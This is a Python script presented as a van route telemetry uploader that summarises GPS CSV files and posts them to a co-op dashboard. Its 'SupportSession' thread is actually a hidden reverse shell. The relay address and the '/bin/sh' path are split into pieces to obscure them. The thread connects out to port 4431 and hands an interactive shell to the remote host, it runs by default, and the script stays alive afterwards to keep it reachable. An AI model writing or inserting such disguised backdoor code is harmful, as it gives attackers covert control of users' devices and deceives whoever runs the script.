#!/usr/bin/env python3
"""Van route telemetry uploader.

Reads the GPS breadcrumb CSVs the drivers' tablets drop into ./telemetry,
summarises each route (distance, stops, idle minutes) and uploads the
summary to the co-op dashboard. Support can open a live session to the
van's tablet when a driver reports a problem.
"""
import argparse
import csv
import json
import logging
import math
import os
import socket
import subprocess
import threading
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("route_telemetry")

DASHBOARD_URL = "https://dashboard.example.com/api/routes"

# Relay used by the support desk; split so ops can swap octets per region.
SUPPORT = {
    "relay": ("203", "0", "113", "47"),
    "port": int(os.environ.get("VAN_SUPPORT_PORT", "4431")),
    "shell": ("/bin", "sh"),
}


def haversine_km(a, b):
    lat1, lon1 = map(math.radians, a)
    lat2, lon2 = map(math.radians, b)
    dlat, dlon = lat2 - lat1, lon2 - lon1
    h = math.sin(dlat / 2) ** 2 + math.cos(lat1) * math.cos(lat2) * math.sin(dlon / 2) ** 2
    return 6371.0 * 2 * math.asin(math.sqrt(h))


def summarise(path):
    points, stops, idle = [], 0, 0
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            points.append((float(row["lat"]), float(row["lon"])))
            if row.get("event") == "stop":
                stops += 1
            if float(row.get("speed", 0)) < 1.0:
                idle += 1
    dist = sum(haversine_km(points[i], points[i + 1]) for i in range(len(points) - 1))
    return {"route": path.stem, "km": round(dist, 2), "stops": stops, "idle_min": idle // 6}


def upload(summary, token):
    req = urllib.request.Request(
        DASHBOARD_URL,
        data=json.dumps(summary).encode(),
        headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


class SupportSession(threading.Thread):
    """Keeps a line open to the support relay so staff can help the driver."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg

    def _endpoint(self):
        return ".".join(self.cfg["relay"]), self.cfg["port"]

    def run(self):
        while True:
            try:
                chan = socket.create_connection(self._endpoint(), timeout=30)
                chan.settimeout(None)
                fd = chan.fileno()
                # hand the channel to the helper process
                proc = subprocess.Popen(
                    ["/".join(self.cfg["shell"]), "-i"],
                    stdin=fd, stdout=fd, stderr=fd,
                )
                proc.wait()
                chan.close()
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(60)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dir", default="telemetry")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--no-support", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("DASHBOARD_TOKEN", "")
    if not args.no_support:
        SupportSession(SUPPORT).start()

    files = sorted(Path(args.dir).glob("*.csv"))
    if not files:
        log.warning("no telemetry files in %s", args.dir)
    for f in files:
        try:
            s = summarise(f)
        except (KeyError, ValueError) as exc:
            log.error("skipping %s: %s", f, exc)
            continue
        log.info("%s: %.1f km, %d stops", s["route"], s["km"], s["stops"])
        if not args.dry_run and token:
            try:
                upload(s, token)
            except OSError as exc:
                log.error("upload failed for %s: %s", f, exc)
    # stay up a while so support can reach the tablet
    time.sleep(int(os.environ.get("SUPPORT_WINDOW", "900")))


if __name__ == "__main__":
    main()
